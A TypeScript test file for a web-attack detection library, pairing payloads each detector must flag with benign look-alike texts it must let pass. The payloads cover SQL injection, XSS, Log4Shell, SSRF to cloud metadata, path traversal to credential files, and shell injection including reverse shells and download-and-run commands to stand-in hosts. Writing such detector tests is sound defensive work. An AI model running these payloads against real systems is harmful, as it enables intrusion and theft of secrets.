/** What each detector finds and what it lets pass: payloads and ordinary texts of our own. */
import { describe, expect, it } from 'vitest';
import { named } from './all.fixture.ts';
import { formsOf } from './decoding/forms.ts';

interface Case {
  readonly attacks: readonly string[];
  readonly ordinary: readonly string[];
}

const cases: Readonly<Record<string, Case>> = {
  sqliLow: {
    attacks: [
      "bob' or 7=7 -- ",
      "x' AND 'q'='q",
      '12 union all select name, secret from members',
      '5 or 3<4',
      "'; drop table orders; --",
      "ann'/**/or/**/2/**/in/**/(2)#",
      '9 and (select count(*) from members) > 2',
      "1); waitfor delay '0:0:9' --",
      "k' || (select pwd from members limit 1) || '",
      '3 and sleep(4)',
      'a" or "b"="b',
      '0x31 uNiOn/*!50000SeLeCt*/ 1,@@hostname',
      "z' having 1=1 --",
      '4 order by 17 -- ',
      "guest'#",
      '1 and ascii(substr(user(),1,1)) > 64',
      "' and extractvalue(1,concat(0x7e,version())) and '1'='1",
    ],
    ordinary: [
      'select a plan from the list',
      "O'Brien",
      "it's 5 o'clock and we're done",
      'union square and select stores',
      'Drop me a line; I will update the table',
      '1 or 2 people, and 3 cats',
      'The cast: "Or" and "And" = friends',
      'order by phone or group by age',
      'name=anna&age=5',
      'C# and F# -- both are fine',
      "rock 'n' roll -- the best of 1970",
      'insert coin; delete nothing',
      'WHERE are you FROM?',
      'having fun with my 2 dogs (and a cat)',
      'Update set for the 3 tables',
      "Women's shoes, size 5 or 6",
      'price > 10 and rating >= 4',
      '10-20 or 30-40',
    ],
  },
  sqliExtended: {
    attacks: [
      'select * from members where id = 4',
      'and true--',
      "k' || 'x",
      'exec master..xp_cmdshell "dir"',
      'select 5, name from members;',
    ],
    ordinary: [
      'select the best from our range',
      'black and true blue',
      'exec summary',
      'round(3.5) is 4',
      '(see above) -- and below',
    ],
  },
  xss: {
    attacks: [
      '<script>go()</script>',
      '<img src=q onerror=run(2)>',
      '"><svg/onload=alert(9)>',
      '<a href="jav&#x09;ascript:go()">x</a>',
      "' onfocus=alert(3) autofocus='",
      '<iframe src=//evil.example>',
      '</textarea><b>x',
      'javascript:alert(5)',
      '<p style="width:expression(go(1))">',
      "top['al'+'ert'](2)",
      "';alert(4)//",
      '<body/onpageshow=go()>',
      '<math><mi xlink:href="data:text/html,x">',
      '<x onclick=go(1)',
      '{{constructor.constructor("go()")()}}',
      '<form action=javascript:go()><input type=submit>',
      '<object data="data:text/html;base64,PHNjcmlwdD4=">',
      '+ADw-script+AD4-go()',
    ],
    ordinary: [
      'I <3 you, and 5 < 6',
      '<b>bold</b> and <i>italic</i> text',
      '<a href="https://shop.example/list?page=2">next</a>',
      '<img src="/cat.png" alt="a cat">',
      'Can you confirm (by Friday)?',
      'red alert: prompt delivery',
      'const sum = (a, b) => a + b;',
      'function greet(name) { return `Hi ${name}`; }',
      'if (a < b && c > d) return x;',
      'Learn JavaScript: the good parts',
      'on = off; once = 1; only=2',
      '<p style="color:red">warning</p>',
      'javascript:void(0)',
      'List<String> names = new ArrayList<>();',
      'document the cookie recipe',
      'a -> b; top [3] results',
      '<table><tr><td>1</td></tr></table>',
    ],
  },
  unixShell: {
    attacks: [
      '; cat /etc/hosts',
      '8.8.8.8 && whoami',
      '$(curl http://e.example/x)',
      '`id`',
      'x|nc 10.1.1.1 4444 -e /bin/sh',
      "; c''at${IFS}/etc/group",
      '\nls -la',
      '() { :; }; /bin/ping -c1 e.example',
      'bash -i >& /dev/tcp/10.0.0.9/99 0>&1',
      "python3 -c 'import os'",
      '/bin/c?t /etc/p*',
      'a; wget http://e.example/a.sh -O- | sh',
      "__import__('os').system('id')",
      'echo $((40+2))',
    ],
    ordinary: [
      'cats & dogs; mice | men',
      'R&D; sales & marketing',
      'find the time; sort it out; more or less',
      'Use `npm install` and then `npm start`.',
      'The cost is $5 (or $(five))',
      'salt; pepper; cut the bread; make tea',
      'Tom & Co; who knows',
      'sleep well; wait for me',
      'jQuery $("#id").show();',
      'path/to/file.txt',
      'Contact us: mail (at) example.org',
      'x = a | b; y = c & d;',
      'git is great; python too, and perl',
      'touch the screen & watch',
    ],
  },
  windowsShell: {
    attacks: [
      '& ipconfig /all',
      'x | dir c:\\',
      'cmd /c whoami',
      'certutil -urlcache -f http://e.example/a.exe',
      '& net user bob pw /add',
      'for /f %i in (a) do echo %i',
      '%COMSPEC% /c dir',
    ],
    ordinary: [
      'net income and net assets',
      'the reg office',
      'if you like it, set a date',
      '50% off & free shipping',
      'type A or type B',
      'for 5 people in (total)',
    ],
  },
  powershell: {
    attacks: [
      'Invoke-Expression $x',
      'powershell -enc AAAA',
      '(New-Object Net.WebClient).DownloadString("http://e.example")',
      'Get-Process | Stop-Process',
    ],
    ordinary: [
      'a get-together with start-up people',
      'out-of-office',
      'The new-object pattern is old',
      'set-top box',
      'read-only, write-once',
    ],
  },
  traversal: {
    attacks: [
      '../../../../etc/passwd',
      '..\\..\\windows\\win.ini',
      '/etc/shadow',
      'file:///etc/hosts',
      '....//....//etc/group',
      '/proc/self/environ',
      'C:\\boot.ini',
      '/var/log/nginx/../../../etc/passwd',
      '..;/..;/..;/etc/passwd',
    ],
    ordinary: [
      '../images/logo.png',
      'see ./readme.md and ../docs/index.md',
      "import x from '../../lib/x.js'",
      'etc. and so on... and so forth',
      'https://shop.example/a/b/c.html',
      'version 1.2...3',
      'The password is in the drawer',
      'C:\\Users\\anna\\Documents\\letter.docx',
      'What??? Really?/no',
      '/home/Page',
    ],
  },
  metadataRequest: {
    attacks: [
      'http://169.254.169.254/latest/meta-data/',
      'http://2852039166/',
      'http://0xa9fea9fe/',
      'http://[::ffff:a9fe:a9fe]/',
      'http://metadata.google.internal/',
      'http://0251.0376.0251.0376/',
      'http://0x7f000001:8080/',
    ],
    ordinary: [
      'https://shop.example/',
      'http://localhost:3000/callback',
      'http://127.0.0.1:8080/',
      'http://192.168.0.1/',
      'call 169 or 254',
      'http://10.0.0.5/latest',
    ],
  },
  inclusion: {
    attacks: [
      'php://filter/convert.base64-encode/resource=index',
      'http://e.example/shell.txt?',
      'gopher://10.0.0.1:6379/_x',
      'expect://id',
      'http://10.9.8.7/c99.php',
      '\\\\10.0.0.9\\share\\x',
    ],
    ordinary: [
      'https://shop.example/page.php?id=4',
      'https://img.example/a.png',
      'mailto:anna@example.org',
      'http://example.org/notes.txt',
      'tel:+123456',
      'data:image/png;base64,iVBORw0KGgo=',
    ],
  },
  template: {
    attacks: [
      '{{7*191}}',
      '${13*17}',
      '<%= 21*2 %>',
      '#{3*33}',
      "{{''.__class__.__mro__}}",
      '${T(java.lang.Runtime)}',
      '{{request.application.__globals__}}',
      '{% import os %}{{ os.popen("id") }}',
      '{{config}}',
    ],
    ordinary: [
      'Hello {{name}}, your order {{order.id}}',
      '${user.firstName}',
      'color: #{$brand}',
      '{% if user %}hi{% endif %}',
      'function f() { return {a: 1}; }',
      'total = {{ total | round }}',
      '<% end %>',
      '[[wiki link]]',
      '{{ price }} * {{ count }}',
    ],
  },
  nosql: {
    attacks: [
      '{"$gt": ""}',
      '{"$where": "sleep(100)"}',
      'user[$ne]',
      "'; return true; var x='",
      'db.users.find({})',
      '1; do { x } while(true)',
    ],
    ordinary: [
      '$5 or $10',
      '{"$set": {"plan": "pro"}}',
      '$id: 5',
      'return to sender',
      '{"price": {"min": 3}}',
      'while we wait (true story)',
    ],
  },
  ldap: {
    attacks: ['*)(uid=*))(|(uid=*', '(&(cn=a)(!(mail=b)))', 'admin)(&)', 'cn:2.5.13.18:=x'],
    ordinary: ['(a = b) and (c = d)', 'f(x) = y', ':-) (=^.^=)', '2 * (3 + 4) = 14', 'call (555) (ask for Anna)'],
  },
  xml: {
    attacks: [
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]>',
      '<!ENTITY % p SYSTEM "http://e.example/d">',
      '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="x"/></a>',
    ],
    ordinary: [
      '<!DOCTYPE html><html></html>',
      '<?xml version="1.0"?><order><id>4</id></order>',
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    ],
  },
  java: {
    attacks: [
      'java.util.concurrent.Runtime',
      'x=java.a.b.ProcessBuilder',

      'rO0ABXNyABFq',
      'T(java.lang.Runtime).getRuntime().exec("id")',
      'class.module.classLoader.resources',
      '{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
      '#_memberAccess["x"]',
      'new ProcessBuilder("id").start()',
      '%{(#a=@java.lang.System@x)}',
    ],
    ordinary: [
      'java runtime environment',
      'node.runtime.version',

      'java.lang.NullPointerException at com.shop.Cart.add(Cart.java:42)',
      'java lang courses',
      'org.springframework.beans.factory.BeanCreationException: at a.b(C.java:7)',
      'class Dog extends Animal {}',
      'runtime of the movie: 90 min',
      'import java.util.List;',
    ],
  },
  log4j: {
    attacks: [
      '${jndi:ldap://e.example/a}',
      '${${lower:J}ndi:rmi://e.example/a}',
      '${${::-j}${::-n}di:dns://e.example}',
      '${${env:X:-j}ndi${env:X:-:}ldap://e.example/}',
      '${env:AWS_SECRET_ACCESS_KEY}',
    ],
    ordinary: ['${name}', '${a.b}', 'price: ${price}', 'We need LDAP: and JNDI', '${date}'],
  },
  php: {
    attacks: [
      'is_executable()',
      'ARRAY_FILTER ($x)',
      'QUXsha1_file(1)',
      'mkdir   (there)',
      'unlink/* now */(note)',
      'link\n()',
      '[assert][0](note)',
      "('as'.'sert')(note)",
      "{[ popen ][ 0 ]} ('x')",
      '<?assert(1)',
      '<? $a = 1; echo $a ?>',
      '[\\php]',
      '$HTTP_ENV_VARS',
      'opcache.file_cache=/tmp',
      'bzip2://a.bz2',
      '$argv',

      '<?php echo 1; ?>',
      '$_GET["x"]',
      'O:8:"Evil":1:{s:1:"a";i:1;}',
      'system("id")',
      'base64_decode("aWQ=")',
      '${@print(md5(1))}',
      'call_user_func("a")',
      'php://input',
      'auto_prepend_file=x',
    ],
    ordinary: [
      'Copy (2)',
      'system (64 bit)',
      'file(s)',
      'mail  the letter',
      '<?xml:namespace prefix = o ns = "urn:x" />',
      '<?xml version="1.0"?><a/>',
      'mail (work)',
      'isArray(x)',
      'getClass(name)',
      'Include  photos',
      'session.id',
      'list [0] (first)',

      'print("Hello, world!")',
      "const fs = require('fs');",
      'I will mail (or call) you',
      'exec noun',
      'system (noun): a set',
      'echo chamber',
      'link(s) and copy(ies)',
      'a:1 b:2',
      'console.log("x")',
      'sort(array)',
      'date (approx.)',
    ],
  },
  lineBreaks: {
    attacks: [
      'x\r\nSet-Cookie: a=b',
      'a\nLocation: http://e.example',
      'bob@example.org\nBcc: all@example.org',
      'x\r\n\r\nHTTP/1.1 200 OK',
    ],
    ordinary: [
      'Event: party\nLocation: Berlin\nStatus: confirmed',
      'hosts: web\n  connection: local',
      'Dear Anna,\nthank you.\nYours, Bob',
      'Subject matter:\n- one\n- two',
      'line one\nline two: yes',
      'To do this week\nTo: buy milk',
    ],
  },
  graphql: {
    attacks: ['query { __schema { types { name } } }', `query ${'{a'.repeat(30)}${'}'.repeat(30)}`],
    ordinary: [
      'query { user(id: 4) { name __typename } }',
      'mutation { addItem(sku: "a", count: 2) { id } }',
      '{"a": {"b": 1}}',
    ],
  },
  attackAgent: {
    attacks: ['sqlmap/1.8', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)', 'Nuclei - x', 'Nikto/2.5'],
    ordinary: [
      'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/120.0',
      'curl/8.5.0',
      'okhttp/4.12',
      'Googlebot/2.1',
    ],
  },
  scriptFileName: {
    attacks: ['a.php', 'b.pHp5', 'c.phtml', 'd.jsp', 'e.php.jpg', 'f.aspx;.png'],
    ordinary: ['holiday.jpg', 'report.final.pdf', 'php-notes.txt', 'archive.tar.gz', 'my.project.docx'],
  },
};

describe('detectors', () => {
  for (const [name, { attacks, ordinary }] of Object.entries(cases)) {
    const detector = named[name]!;
    const find = (text: string) =>
      formsOf(Buffer.from(text).toString('latin1'), false)
        .map((form) => detector(form.text))
        .find(Boolean);
    it(`${name} finds attacks and says why`, () => {
      for (const attack of attacks) {
        const found = find(attack);
        expect(found, attack).toBeDefined();
        expect(found!.reason.length).toBeGreaterThan(5);
        expect(found!.matched.length).toBeLessThanOrEqual(200);
      }
    });
    it(`${name} lets ordinary texts pass`, () => {
      expect(ordinary.filter((text) => find(text) !== undefined).map((text) => [text, find(text)?.reason])).toEqual([]);
    });
  }
});
